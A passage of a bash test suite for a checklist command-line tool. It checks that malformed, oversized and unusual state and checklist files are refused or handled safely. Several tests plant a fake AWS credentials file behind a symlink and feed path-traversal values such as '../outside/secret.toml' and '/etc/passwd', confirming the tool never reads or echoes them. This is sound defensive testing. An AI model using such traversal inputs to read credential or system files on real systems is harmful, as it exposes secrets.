#!/usr/bin/env bash
# Hostile and unusual files (issue 8): each gets a clear error naming file, line and column, or
# is handled correctly; never a crash, never a damaged or changed state file, never a temporary
# or lock file left behind. Fixtures are in tests/fixtures/hostile-files/; the large ones are
# generated here (bench/generate.py and a few shell loops), never committed.
. "$(dirname "$0")/lib.sh"

CHECKLISTS="$FIXTURES/checklists"
STATES="$FIXTURES/states"

# --- Helpers ---

# A crash is a signal (status above 128) or a C++ runtime abort; a data or I/O error is neither.
# No temporary (.NAME.tmp-XXXXXX) or lock (NAME.lock) file left in directory $1 (default .).
assert_no_leftovers() { # [directory]
  local left
  left=$(find "${1:-.}" -mindepth 1 -maxdepth 1 \( -name '.*.tmp-*' -o -name '*.lock' \) | sort)
  assert_eq "" "$left" "temporary or lock files left in ${1:-.}"
}

# The caret line under a diagnostic: COLUMN-1 spaces, then ^.
caret_at() { printf '%*s^' "$(($1 - 1))" ''; }

# Asserts that $err is a data error at "$1:$2: error: " whose message contains $3, followed by
# the source line and a caret under the column.
assert_located_error() { # path line:col message
  assert_contains "$err" "$1:$2: error: " "stderr"
  assert_contains "$err" "$3" "stderr"
  assert_eq "$(caret_at "${2#*:}")" "$(printf '%s\n' "$err" | sed -n 3p)" "caret line"
}

# Installs fixture $1 as the state file (with small.toml beside it), then runs reading and
# writing commands on it: each must be a data error at $PWD/.llmchecklist:$2 containing $3,
# with the state file byte-identical and nothing left behind.
expect_state_data_error() { # fixture line:col message
  cp "$FIXTURES/checklists/small.toml" .
  cp "$STATES/$1" .llmchecklist
  cp .llmchecklist before
  local args
  for args in "list" "progress --json" "check 2" "check --na why 3" "uncheck 1" "show 1"; do
    # shellcheck disable=SC2086
    lc $args
    assert_no_crash
    assert_status 3
    assert_located_error "$PWD/.llmchecklist" "$2" "$3"
    assert_same_bytes before .llmchecklist
    assert_no_leftovers
  done
}

# Points a state file at checklist fixture $1 (copied here) and asserts a data error at
# $PWD/$1:$2 containing $3 for reading and writing commands and for lint, with nothing written.
expect_checklist_data_error() { # fixture line:col message
  cp "$CHECKLISTS/$1" .
  printf 'format = 1\nchecklist = "%s"\n' "$1" >.llmchecklist
  cp .llmchecklist before
  local args
  for args in "list" "progress --json" "check 1" "show 1"; do
    # shellcheck disable=SC2086
    lc $args
    assert_no_crash
    assert_status 3
    assert_located_error "$PWD/$1" "$2" "$3"
    assert_same_bytes before .llmchecklist
    assert_no_leftovers
  done
  lc lint "$1"
  assert_no_crash
  assert_status 3
  assert_contains "$out$err" "$1:$2: " "lint output"
  # init refuses it before writing anything. (In a git repository, so that the checklist one
  # directory up is inside the repository.)
  git init -q .
  mkdir fresh
  lc -C fresh --file .llmchecklist init --checklist "../$1"
  assert_no_crash
  assert_status 3
  assert_contains "$err" "$1:$2: error: "
  assert_eq "" "$(ls -A fresh)" "files created by init"
}

# Runs the binary as an unprivileged user, as lc does: directory permissions do not stop root,
# so the read-only directory case needs a user they apply to. Returns 1 when that is impossible.
lc_unprivileged() {
  if [ "$(id -u)" -ne 0 ]; then
    lc "$@"
    return 0
  fi
  command -v setpriv >/dev/null || return 1
  local o e
  o=$(mktemp) e=$(mktemp)
  chmod 666 "$o" "$e"
  status=0
  setpriv --reuid=nobody --regid=nogroup --clear-groups -- "$LLMCHECKLIST_BIN" "$@" \
    >"$o" 2>"$e" || status=$?
  out=$(cat "$o")
  err=$(cat "$e")
  rm -f "$o" "$e"
}

# --- Truncated TOML ---

test_a_truncated_state_file_is_a_data_error_at_the_end_of_the_file() {
  # Line 10 is `note = "cut off in the midd` (27 characters) with no newline: the end is column 28.
  expect_state_data_error truncated-state.llmchecklist 10:28 "the file ends inside a string: its closing quote is missing"
}

test_a_truncated_checklist_is_a_data_error_at_the_end_of_the_file() {
  # The file stops after "stops" (line 24) inside a multi-line string.
  expect_checklist_data_error truncated-checklist.toml 24:6 "the file ends inside a string: its closing quote is missing"
}

# --- Wrong value types ---

# --- Unknown keys ---

# --- Duplicate tables ---

# --- A state file for another checklist, a missing checklist, an unknown built-in ---

test_a_state_file_for_another_checklist_keeps_the_foreign_entries_as_orphans() {
  cp "$FIXTURES/checklists/small.toml" .
  cp "$STATES/other-checklist.llmchecklist" .llmchecklist
  lc list
  assert_no_crash
  assert_status 0
  assert_contains "$err" "orphaned" "stderr of list"
  assert_contains "$err" "quality-bar" "stderr of list"
  assert_contains "$err" "smaller-model-check" "stderr of list"
  lc progress
  assert_no_crash
  assert_status 0
  assert_contains "$err" "orphaned" "stderr of progress"
  assert_contains "$err" "quality-bar" "stderr of progress"
  lc progress --json
  assert_status 0
  assert_eq '["quality-bar","smaller-model-check"]' "$(json '.orphaned | tojson')"
  # Only the checklist's own entries count.
  assert_eq "1 5" "$(json '"\(.done) \(.total)"')"

  lc_ok check beta
  # Both foreign entries survive the rewrite, every field as recorded.
  assert_contains "$(cat .llmchecklist)" '[items.quality-bar]
status = "done"
revision = 1
by = "Bob <bob@example.org>"
at = 2025-06-01T08:00:00Z
note = "docs/quality-bar.md"'
  assert_contains "$(cat .llmchecklist)" '[items.smaller-model-check]
status = "na"
note = "only one model fits"'
  lc list --json
  assert_status 0
  assert_eq '["quality-bar","smaller-model-check"]' "$(json '.orphaned | tojson')"
  assert_eq "done done" "$(json '[.phases[].items[] | select(.id == "alpha" or .id == "beta") | .status] | join(" ")')"
  assert_no_leftovers
}

test_a_state_file_naming_a_missing_checklist_file_is_an_io_error_naming_both_files() {
  cp "$STATES/missing-checklist.llmchecklist" .llmchecklist
  cp .llmchecklist before
  local args
  for args in "list" "progress --json" "check 1" "uncheck 1"; do
    # shellcheck disable=SC2086
    lc $args
    assert_no_crash
    assert_status 4
    assert_contains "$err" "$PWD/lists/missing.toml" "stderr of '$args'"
    assert_contains "$err" "$PWD/.llmchecklist:2:13" "stderr of '$args'"
    assert_same_bytes before .llmchecklist
    assert_no_leftovers
  done
  assert_no_file lists
}

test_a_state_file_naming_an_unknown_built_in_checklist_is_a_data_error_at_the_name() {
  expect_state_data_error unknown-builtin.llmchecklist 2:13 "llm-deployment-v9"
  assert_contains "$err" "builtin:llm-deployment" "the known built-in checklists"
}

# --- Size: 100 000 items, 50 MB files ---

test_a_checklist_with_100000_items_is_counted_and_checked() {
  # Short details keep the file at about 20 MB; the item count is what this case is about.
  python3 "$SOURCE_DIR/bench/generate.py" 100000 . --details 10
  lc progress --json
  assert_no_crash
  assert_status 0
  assert_eq "100000 50000" "$(json '"\(.total) \(.done)"')"
  # item-7 is done already (re-recorded), item-8 is todo.
  lc check item-7 item-8
  assert_no_crash
  assert_status 0
  assert_no_leftovers
  assert_eq 100000 "$(grep -c '^\[items\.item-[0-9]*\]$' .llmchecklist)" "entries in the state file"
  lc progress --json
  assert_status 0
  assert_eq "100000 50001 []" "$(json '"\(.total) \(.done) \(.orphaned // [] | tojson)"')"
  lc show item-8 --json
  assert_status 0
  assert_eq "done" "$(json .status)"
}

test_a_state_file_with_a_50_mb_comment_is_read_and_rewritten() {
  cp "$FIXTURES/checklists/small.toml" .
  lc_ok init --checklist small.toml
  { printf '# '; head -c 52428800 /dev/zero | tr '\0' 'x'; printf '\n'; } >>.llmchecklist
  lc list --json
  assert_no_crash
  assert_status 0
  lc check alpha
  assert_no_crash
  assert_status 0
  assert_no_leftovers
  lc list --json
  assert_status 0
  assert_eq "done" "$(json '.phases[0].items[0].status')"
}

test_a_50_mb_note_in_the_state_file_is_kept_on_rewrite() {
  cp "$FIXTURES/checklists/small.toml" .
  printf 'format = 1\nchecklist = "small.toml"\n\n[items.beta]\nstatus = "done"\nnote = "' >.llmchecklist
  head -c 52428800 /dev/zero | tr '\0' 'n' >>.llmchecklist
  printf '"\n' >>.llmchecklist
  lc check alpha
  assert_no_crash
  assert_status 0
  assert_no_leftovers
  lc show beta --json
  assert_status 0
  assert_eq "52428800 done" "$(json '"\(.note | length) \(.status)"')"
  lc show alpha --json
  assert_eq "done" "$(json .status)"
}

test_a_checklist_with_50_mb_of_details_is_read_and_checked() {
  cp "$FIXTURES/checklists/small.toml" small.toml
  {
    sed -n '1,/^details = "Gamma details."$/p' small.toml | sed '$d'
    printf 'details = "'
    head -c 52428800 /dev/zero | tr '\0' 'g'
    printf '"\n'
    sed -n '/^details = "Gamma details."$/,$p' small.toml | sed 1d
  } >big.toml
  lc_ok init --checklist big.toml
  lc check gamma
  assert_no_crash
  assert_status 0
  assert_no_leftovers
  lc show gamma --json
  assert_status 0
  assert_eq "52428800 done" "$(json '"\(.details | length) \(.status)"')"
}

test_a_50_mb_state_file_of_nul_bytes_is_a_data_error_at_the_start() {
  head -c 52428800 /dev/zero >.llmchecklist
  cp .llmchecklist before
  lc check 1
  assert_no_crash
  assert_status 3
  assert_contains "$err" "$PWD/.llmchecklist:1:1: error: "
  assert_same_bytes before .llmchecklist
  assert_no_leftovers
}

test_a_50_mb_unterminated_note_is_a_data_error_at_its_end_without_echoing_the_line() {
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n\n[items.quality-bar]\nstatus = "done"\nnote = "' >.llmchecklist
  head -c 52428800 /dev/zero | tr '\0' 'n' >>.llmchecklist
  cp .llmchecklist before
  lc check 2
  assert_no_crash
  assert_status 3
  # `note = "` is 8 characters, then 52428800 more: the end of the file is column 52428809.
  assert_contains "$err" "$PWD/.llmchecklist:6:52428809: error: "
  # The diagnostic stays readable: not the 50 MB line.
  [ "${#err}" -lt 10000 ] || fail "stderr is ${#err} bytes long"
  assert_same_bytes before .llmchecklist
  assert_no_leftovers
}

# --- Invalid UTF-8: the column is that of the first byte that is not UTF-8 ---

test_invalid_utf8_in_a_state_file_string_is_a_data_error_at_the_byte() {
  # Line 7 is `note = "caf\xE9 menu reviewed"`: the Latin-1 byte is column 12.
  expect_state_data_error invalid-utf8-state.llmchecklist 7:12 "invalid UTF-8"
}

test_invalid_utf8_at_the_start_of_a_line_is_reported_on_that_line() {
  # Line 7 starts with the byte 0xE9: column 1 of line 7, not the end of line 6.
  expect_state_data_error invalid-utf8-line-start.llmchecklist 7:1 "invalid UTF-8"
}

test_invalid_utf8_in_a_checklist_is_a_data_error_at_the_byte() {
  # Line 4 is `title = "Caf\xE9 checklist"`: the byte is column 13.
  expect_checklist_data_error invalid-utf8-checklist.toml 4:13 "invalid UTF-8"
}

test_invalid_utf8_diagnostics_print_valid_utf8() {
  cp "$FIXTURES/checklists/small.toml" .
  cp "$STATES/invalid-utf8-state.llmchecklist" .llmchecklist
  lc list
  assert_status 3
  # The source line is echoed with the bad byte replaced, so the terminal gets valid text.
  printf '%s' "$err" | iconv -f UTF-8 -t UTF-8 >/dev/null || fail "stderr is not valid UTF-8: [$err]"
}

# --- Byte-order mark and CRLF ---

test_a_utf8_bom_on_the_state_file_is_read_and_kept_after_check() {
  cp "$FIXTURES/checklists/small.toml" .
  cp "$STATES/bom.llmchecklist" .llmchecklist
  lc list --json
  assert_no_crash
  assert_status 0
  assert_eq "done todo" "$(json '[.phases[0].items[0,1].status] | join(" ")')"
  lc_ok check alpine
  assert_no_leftovers
  assert_eq "efbbbf" "$(head -c 3 .llmchecklist | od -An -tx1 | tr -d ' \n')" "first three bytes"
  # Exactly one BOM, and the rest is the normal file.
  assert_eq 0 "$(tail -c +4 .llmchecklist | grep -c $'\xef\xbb\xbf' || true)" "BOMs after the first"
  tail -c +4 .llmchecklist >rest
  lc_ok --file rest list --json
  assert_eq "done done" "$(json '[.phases[0].items[0,1].status] | join(" ")')"
  lc_ok list --json
  assert_eq "done done" "$(json '[.phases[0].items[0,1].status] | join(" ")')"
}

test_a_data_error_in_a_bom_state_file_counts_columns_after_the_bom() {
  cp "$FIXTURES/checklists/small.toml" .
  { printf '\xef\xbb\xbf'; cat "$STATES/wrong-type-state.llmchecklist"; } >.llmchecklist
  cp .llmchecklist before
  lc check 2
  assert_no_crash
  assert_status 3
  assert_located_error "$PWD/.llmchecklist" 7:12 "expected an integer for 'revision'"
  assert_same_bytes before .llmchecklist
  assert_no_leftovers
}

test_a_crlf_state_file_is_read_and_written_back_with_crlf() {
  cp "$FIXTURES/checklists/small.toml" .
  # As a Windows checkout with core.autocrlf=true leaves the committed file.
  sed 's/$/\r/' "$STATES/alpha-done.llmchecklist" >.llmchecklist
  lc list --json
  assert_no_crash
  assert_status 0
  assert_eq "done" "$(json '.phases[0].items[0].status')"
  lc_ok check beta --note "evidence"
  assert_no_leftovers
  assert_eq 0 "$(grep -vc $'\r$' .llmchecklist || true)" "lines without CR"
  # No lone LF anywhere, and no doubled CR.
  assert_eq "$(wc -l <.llmchecklist)" "$(grep -c $'\r$' .llmchecklist)" "CRLF lines"
  assert_eq 0 "$(grep -c $'\r\r' .llmchecklist || true)" "doubled CRs"
  assert_contains "$(cat .llmchecklist)" $'[items.beta]\r\nstatus = "done"\r\n'
  lc_ok list --json
  assert_eq 'done|evidence' "$(json '.phases[0].items[2] | "\(.status)|\(.note)"')"
}

test_a_crlf_checklist_is_read_without_carriage_returns_in_its_text() {
  sed 's/$/\r/' "$CHECKLISTS/multiline-checklist.toml" >crlf.toml
  printf 'format = 1\nchecklist = "crlf.toml"\n' >.llmchecklist
  lc list --json
  assert_no_crash
  assert_status 0
  assert_eq "first second" "$(json '[.phases[].items[].id] | join(" ")')"
  lc show second --json
  assert_status 0
  # A multi-line string's line ends are the text's, not the file's.
  assert_eq '"First line.\nSecond line.\n"' "$(json '.details | tojson')"
  assert_eq '"Both lines are there."' "$(json '.done_when | tojson')"
  lc_ok check second
  assert_no_leftovers
  lc_ok list --json
  assert_eq "todo done" "$(json '[.phases[].items[].status] | join(" ")')"
  # lint finds in it what it finds in the LF original, at the same places.
  cp "$CHECKLISTS/multiline-checklist.toml" lf.toml
  lc lint lf.toml
  local expected="$out$err"
  lc lint crlf.toml
  assert_no_crash
  assert_eq "${expected//lf.toml/crlf.toml}" "$out$err" "lint of the CRLF file"
}

# --- Symbolic links ---

test_a_state_file_that_is_a_symlink_is_written_through_and_stays_a_link() {
  mkdir shared
  # The built-in checklist, so that nothing depends on where relative paths resolve.
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n' >shared/state.toml
  ln -s shared/state.toml .llmchecklist
  lc check 3 --note "through the link"
  assert_no_crash
  assert_status 0
  [ -L .llmchecklist ] || fail ".llmchecklist is no longer a symbolic link"
  assert_eq "shared/state.toml" "$(readlink .llmchecklist)" "link target"
  if [ -L shared/state.toml ] || [ ! -f shared/state.toml ]; then
    fail "the target is not a regular file"
  fi
  assert_contains "$(cat shared/state.toml)" 'note = "through the link"'
  assert_no_leftovers
  assert_no_leftovers shared
  lc show 3 --json
  assert_eq "done|through the link" "$(json '"\(.status)|\(.note)"')"
}

test_a_state_file_symlink_to_another_directory_keeps_its_temporaries_out_of_both() {
  git_repo
  mkdir -p repo elsewhere
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n' >elsewhere/state.toml
  ln -s "$PWD/elsewhere/state.toml" repo/.llmchecklist
  lc -C repo check 1
  assert_no_crash
  assert_status 0
  [ -L repo/.llmchecklist ] || fail "repo/.llmchecklist is no longer a symbolic link"
  assert_eq "$PWD/elsewhere/state.toml" "$(readlink repo/.llmchecklist)" "link target"
  assert_eq "state.toml" "$(ls -A elsewhere)" "files beside the target"
  assert_eq ".llmchecklist" "$(ls -A repo)" "files beside the link"
  lc_ok -C repo list --json
  assert_eq "done" "$(json '.phases[0].items[0].status')"
}

test_a_state_file_linked_outside_the_repository_is_refused_unopened() {
  git_repo
  git commit -q --allow-empty -m "A revision for diff to compare with"
  mkdir ../outside-$$ 2>/dev/null || true
  local secret="$PWD/../outside-$$/credentials"
  printf 'aws_secret_access_key = "AKIA-NEVER-SHOWN"\n' >"$secret"
  ln -s "$secret" .llmchecklist
  local args
  for args in "list" "progress" "show 1" "check 1" "uncheck 1" "export --format json" "diff" \
    "progress --min 10" "verify --dry-run"; do
    # shellcheck disable=SC2086
    lc $args
    assert_no_crash
    assert_status 4
    assert_contains "$err" ".llmchecklist is a symbolic link to $secret, outside the repository"
    assert_not_contains "$out$err" "AKIA-NEVER-SHOWN" "$args"
    [ -L .llmchecklist ] || fail "$args replaced the link"
  done
  assert_eq 'aws_secret_access_key = "AKIA-NEVER-SHOWN"' "$(cat "$secret")" "the target"
  rm -rf "../outside-$$"
}

test_a_state_file_that_is_not_a_regular_file_is_refused_without_hanging() {
  git_repo
  local status_of
  # A FIFO no one writes to would block a plain open() forever.
  mkfifo .llmchecklist
  status_of=0
  timeout 20 "$LLMCHECKLIST_BIN" progress 2>err.txt || status_of=$?
  assert_eq 4 "$status_of" "exit status for a FIFO"
  assert_contains "$(cat err.txt)" ".llmchecklist: it is a FIFO, not a regular file"
  rm .llmchecklist
  # A link inside the repository to a FIFO, and a link to /dev/zero (outside it).
  mkfifo pipe && ln -s pipe .llmchecklist
  status_of=0
  timeout 20 "$LLMCHECKLIST_BIN" check 1 2>err.txt || status_of=$?
  assert_eq 4 "$status_of" "exit status for a link to a FIFO"
  assert_contains "$(cat err.txt)" ".llmchecklist is a symbolic link to pipe, which is a FIFO"
  [ -p pipe ] || fail "the FIFO was replaced"
  rm .llmchecklist && ln -s /dev/zero .llmchecklist
  status_of=0
  timeout 20 "$LLMCHECKLIST_BIN" list 2>err.txt || status_of=$?
  assert_eq 4 "$status_of" "exit status for a link to /dev/zero"
  assert_contains "$(cat err.txt)" "symbolic link to /dev/zero, outside the repository"
  rm .llmchecklist && mkdir .llmchecklist
  lc list
  assert_status 4
  assert_contains "$err" ".llmchecklist: it is a directory, not a regular file"
}

test_a_state_file_over_the_size_limit_is_refused_before_it_is_read() {
  git_repo
  # Sparse: 200 MiB that take no disk; reading them would take the memory.
  truncate -s 200M .llmchecklist
  lc progress
  assert_status 4
  assert_contains "$err" "it holds 200 MiB, more than the 128 MiB a file here may hold"
  assert_eq 209715200 "$(stat -c %s .llmchecklist)" "size after"
}

test_a_checklist_file_that_is_a_fifo_is_refused_without_hanging() {
  git_repo
  mkfifo custom.toml
  printf 'format = 1\nchecklist = "custom.toml"\n' >.llmchecklist
  local status_of=0
  timeout 20 "$LLMCHECKLIST_BIN" list 2>err.txt || status_of=$?
  assert_eq 4 "$status_of" "exit status"
  assert_contains "$(cat err.txt)" "custom.toml: it is a FIFO, not a regular file"
}

# --- Read-only file and directory ---

test_a_read_only_state_file_is_refused_with_an_io_error_even_as_root() {
  git_repo
  lc_ok check 1
  chmod 444 .llmchecklist
  cp -p .llmchecklist before
  lc check 2
  assert_no_crash
  # Root may write anything, but a 0444 file says "keep this": the tool must refuse for root too.
  assert_status 4
  assert_contains "$err" ".llmchecklist" "stderr"
  assert_same_bytes before .llmchecklist
  assert_eq 444 "$(stat -c %a .llmchecklist)" "mode"
  assert_no_leftovers
  lc uncheck 1
  assert_status 4
  assert_same_bytes before .llmchecklist
  assert_no_leftovers
}

test_a_read_only_state_file_is_refused_for_an_unprivileged_user() {
  chmod 755 .
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n' >.llmchecklist
  chmod 444 .llmchecklist
  cp .llmchecklist before
  chmod 777 . # writable directory: only the file's mode protects it
  lc_unprivileged check 2 || skip "cannot run as an unprivileged user"
  chmod 755 .
  assert_no_crash
  assert_status 4
  assert_contains "$err" "$PWD/.llmchecklist" "stderr"
  assert_same_bytes before .llmchecklist
  assert_no_leftovers
}

test_a_read_only_directory_is_refused_with_an_io_error_for_an_unprivileged_user() {
  # Directory permissions do not bind root (it may create files in a 0555 directory), so this
  # runs the binary as nobody when the tests run as root.
  chmod 755 .
  mkdir ro
  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n' >ro/.llmchecklist
  chmod 666 ro/.llmchecklist
  cp ro/.llmchecklist before
  chmod 555 ro
  lc_unprivileged -C ro check 2 || {
    chmod 755 ro
    skip "cannot run as an unprivileged user"
  }
  local listing
  listing=$(ls -A ro)
  chmod 755 ro
  assert_no_crash
  assert_status 4
  assert_contains "$err" "$PWD/ro/.llmchecklist" "stderr"
  assert_same_bytes before ro/.llmchecklist
  assert_eq ".llmchecklist" "$listing" "files in the read-only directory"
}

# --- --file in a missing directory ---

test_check_with_file_in_a_missing_directory_fails_and_creates_nothing() {
  lc check --file missing/dir/.llmchecklist 1
  assert_no_crash
  assert_status 4
  assert_contains "$err" "missing/dir" "stderr"
  assert_eq "" "$(ls -A)" "files created"
  lc --file missing/dir/.llmchecklist check 1
  assert_status 4
  assert_eq "" "$(ls -A)" "files created"
}

test_reading_commands_refuse_a_named_state_file_that_does_not_exist() {
  # Only the implicit default may be absent: a named file that is not there is a typo, and
  # reading it as "nothing done" would let a report or a gate pass on nothing.
  local args
  for args in "list --json" "progress --json" "show 1" "export" "progress --min 0" "verify"; do
    # shellcheck disable=SC2086
    lc --file missing/dir/.llmchecklist $args
    assert_no_crash
    assert_status 4
    assert_contains "$err" "missing/dir/.llmchecklist does not exist (named by --file)"
    LLMCHECKLIST_FILE=missing.llmchecklist lc $args
    assert_status 4
    assert_contains "$err" "missing.llmchecklist does not exist (named by LLMCHECKLIST_FILE)"
  done
  assert_eq "" "$(ls -A)" "files created"
  # The writers may still create it.
  lc_ok --file new.llmchecklist check 1 -q
  assert_file_contains new.llmchecklist '[items.quality-bar]'
}

test_a_read_only_directory_is_refused_even_as_root() {
  mkdir -p rd/s
  cd rd/s
  git_repo
  lc_ok check 1
  cp -p .llmchecklist ../before
  chmod 555 .
  lc check 2
  chmod 755 .
  assert_no_crash
  assert_status 4
  assert_contains "$err" "read-only"
  assert_same_bytes ../before .llmchecklist
  assert_no_leftovers
}

# --- Trust at the edges (issue 14): outputs, gates, smuggled commands and reads ---

# A project with one item done, in a git repository, for the export -o cases.
export_setup() {
  git_repo
  lc_ok init -q
  lc_ok check 1 -q
}

test_export_to_a_fifo_writes_into_it_and_keeps_it() {
  export_setup
  mkfifo pipe
  cat pipe >received &
  local reader=$!
  lc export --format csv -o pipe
  assert_status 0
  wait "$reader"
  [ -p pipe ] || fail "the FIFO was replaced"
  assert_file_contains received "quality-bar"
}

test_export_to_a_character_device_writes_to_it_and_keeps_the_node() {
  export_setup
  # A device node of our own inside the temporary directory (the null device's numbers), never a
  # real /dev node; making one needs root.
  mknod sink c 1 3 2>/dev/null || skip "making a device node needs root"
  lc export -o sink
  assert_status 0
  [ -c sink ] || fail "the device node was replaced by a $(stat -c %F sink)"
}

test_export_to_dev_stdout_inside_a_pipe_reaches_the_pipe() {
  export_setup
  local piped
  piped=$("$LLMCHECKLIST_BIN" export --format csv -o /dev/stdout | cat)
  assert_contains "$piped" "quality-bar"
  # A link of our own into /proc/self/fd, written through to the pipe behind it.
  ln -s /proc/self/fd/1 to-stdout
  piped=$("$LLMCHECKLIST_BIN" export --format csv -o to-stdout | cat)
  assert_contains "$piped" "quality-bar"
  [ -L to-stdout ] || fail "the link was replaced"
}

test_export_dash_is_standard_output() {
  export_setup
  lc export --format csv -o -
  assert_status 0
  assert_contains "$out" "quality-bar"
  assert_no_file ./-
}

test_export_to_a_directory_is_an_io_error_naming_it() {
  export_setup
  mkdir reports
  lc export -o reports
  assert_status 4
  assert_contains "$err" "cannot write reports: it is a directory"
  [ -d reports ] || fail "the directory is gone"
}

test_export_through_a_symlink_writes_the_target_and_keeps_the_link() {
  export_setup
  mkdir docs
  printf 'old\n' >docs/CHECKLIST.md
  ln -s docs/CHECKLIST.md CHECKLIST.md
  lc export -o CHECKLIST.md
  assert_status 0
  [ -L CHECKLIST.md ] || fail "the link was replaced"
  assert_file_contains docs/CHECKLIST.md "# LLM Deployment Checklist"
  ln -s missing.md dangling.md
  lc export -o dangling.md
  assert_status 4
  assert_contains "$err" "dangling.md: it is a symbolic link to missing.md, which does not exist"
}

test_export_refuses_to_overwrite_the_state_file_and_its_checklist_files() {
  git_repo
  cp "$FIXTURES/checklists/small.toml" base.toml
  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "base.toml"\n' >ours.toml
  lc_ok init --checklist ours.toml -q
  lc_ok check 1 -q
  local file
  for file in base.toml ours.toml .llmchecklist; do cp "$file" "$file.before"; done
  lc export -o .llmchecklist
  assert_status 2
  assert_contains "$err" "names the state file in use"
  lc export -o ./ours.toml
  assert_status 2
  assert_contains "$err" "the checklist definition the state follows"
  ln -s base.toml alias.toml
  lc export -o alias.toml
  assert_status 2
  assert_contains "$err" "a checklist file the definition extends"
  for file in base.toml ours.toml .llmchecklist; do assert_same_bytes "$file.before" "$file"; done
  lc --file .llmchecklist export -o "$PWD/.llmchecklist"
  assert_status 2
  lc_ok list
}

test_a_dangling_state_file_link_is_an_io_error_and_the_link_is_kept() {
  git_repo
  ln -s shared/.llmchecklist .llmchecklist
  local args
  for args in "list" "progress" "check 1" "uncheck 1"; do
    # shellcheck disable=SC2086
    lc $args
    assert_no_crash
    assert_status 4
    assert_contains "$err" ".llmchecklist is a symbolic link to shared/.llmchecklist, which does not exist"
    [ -L .llmchecklist ] || fail "$args replaced the link"
  done
  assert_no_file shared
  # Found walking up from a subdirectory too, instead of starting afresh.
  mkdir sub && cd sub
  lc check 1
  assert_status 4
  cd ..
  [ -L .llmchecklist ] || fail "the link was replaced"
}

test_progress_gate_with_no_gate_table_fails_saying_there_is_nothing_to_enforce() {
  git_repo
  lc_ok check --phase 1 -q
  lc progress --gate
  assert_status 1
  assert_contains "$err" "gate failed: nothing to enforce: $PWD/.llmchecklist has no [gate] table"
  lc progress --gate --min 0
  assert_status 1
  # With a table, it is applied.
  printf '\n[gate]\nmin = 10\n' >>.llmchecklist
  lc progress --gate
  assert_status 0
}

test_progress_gate_with_no_state_file_fails_saying_where_it_looked() {
  git_repo
  mkdir sub && cd sub
  lc progress --gate
  assert_status 1
  assert_contains "$err" "gate failed: nothing to enforce"
  assert_contains "$err" "no .llmchecklist in $PWD or its parents"
  lc --file mistyped.llmchecklist progress --gate
  assert_status 4
  assert_contains "$err" "mistyped.llmchecklist does not exist"
}

test_a_bad_gate_phase_is_a_data_error_at_its_key() {
  git_repo
  lc_ok check 1 -q
  printf '\n[gate]\nmin = 0\n[gate.phases]\nevaluation = 10\nno-such-phase = 50\n' >>.llmchecklist
  cp .llmchecklist before
  lc progress --gate
  assert_status 3
  local line
  line=$(grep -n '^no-such-phase' .llmchecklist | cut -d: -f1)
  assert_located_error "$PWD/.llmchecklist" "$line:1" "[gate.phases] names 'no-such-phase', which is not a phase"
  assert_same_bytes before .llmchecklist
  # From the command line it is the user's typo, with suggestions.
  lc progress --min-phase evalution=10
  assert_status 2
  assert_contains "$err" "no phase 'evalution'"
}

# A file outside the repository whose first line must never reach any output.
secret_outside() {
  mkdir -p outside
  printf 'SECRET-TOKEN-12345 = "x"\n' >outside/secret.toml
  mkdir repo && cd repo
  git_repo
}

assert_secret_not_shown() {
  assert_not_contains "$out$err" "SECRET-TOKEN" "output"
}

test_an_absolute_checklist_reference_is_refused_without_opening_the_file() {
  secret_outside
  printf 'format = 1\nchecklist = "%s"\n' "$(cd ../outside && pwd)/secret.toml" >.llmchecklist
  cp .llmchecklist before
  local args
  for args in "list" "progress" "check 1" "show 1" "export"; do
    # shellcheck disable=SC2086
    lc $args
    assert_status 3
    assert_located_error "$PWD/.llmchecklist" "2:13" "is an absolute path"
    assert_secret_not_shown
  done
  assert_same_bytes before .llmchecklist
  # Not opened: a file nobody may read gives the reference's error, not "permission denied".
  chmod 000 ../outside/secret.toml
  lc list
  assert_status 3
  assert_not_contains "$err" "ermission"
}

test_a_checklist_reference_climbing_out_of_the_repository_is_refused() {
  secret_outside
  printf 'format = 1\nchecklist = "../outside/secret.toml"\n' >.llmchecklist
  lc progress
  assert_status 3
  assert_located_error "$PWD/.llmchecklist" "2:13" "leads outside the repository"
  assert_secret_not_shown
  # Through a symbolic link inside the repository, too.
  ln -s ../outside lists
  printf 'format = 1\nchecklist = "lists/secret.toml"\n' >.llmchecklist
  lc progress
  assert_status 3
  assert_contains "$err" "through a symbolic link"
  assert_secret_not_shown
  # A `..` that stays inside is fine.
  mkdir -p a/b && cp "$FIXTURES/checklists/small.toml" a/small.toml
  printf 'format = 1\nchecklist = "a/b/../small.toml"\n' >.llmchecklist
  lc_ok progress
}

test_extends_climbing_out_of_the_repository_is_refused_at_the_extends() {
  secret_outside
  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "../outside/secret.toml"\n' >ours.toml
  printf 'format = 1\nchecklist = "ours.toml"\n' >.llmchecklist
  lc list
  assert_status 3
  assert_located_error "$PWD/ours.toml" "4:11" "leads outside the repository"
  assert_secret_not_shown
  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "/etc/passwd"\n' >ours.toml
  lc list
  assert_status 3
  assert_contains "$err" "is an absolute path"
  assert_not_contains "$err" "root:"
  lc lint ours.toml
  assert_status 3
  assert_not_contains "$err" "root:"
}

test_an_extends_cycle_is_reported_once_naming_its_files_in_order() {
  git_repo
  printf '[checklist]\nid = "a"\ntitle = "A"\nextends = "b.toml"\n' >a.toml
  printf '[checklist]\nid = "b"\ntitle = "B"\nextends = "c.toml"\n' >b.toml
  printf '[checklist]\nid = "c"\ntitle = "C"\nextends = "a.toml"\n' >c.toml
  printf 'format = 1\nchecklist = "a.toml"\n' >.llmchecklist
  lc list
  assert_status 3
  assert_contains "$err" "'extends' makes a cycle: a.toml extends b.toml, which extends c.toml, which extends a.toml"
  assert_eq 1 "$(printf '%s\n' "$err" | grep -c 'error:')" "errors reported"
  assert_not_contains "$err" "cannot extend"
}

test_an_override_of_an_unknown_item_names_the_nearest_ids() {
  git_repo
  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "builtin:llm-deployment"\n\n[overrides.adversarial-case]\nseverity = "recommended"\n' >ours.toml
  printf 'format = 1\nchecklist = "ours.toml"\n' >.llmchecklist
  lc list
  assert_status 3
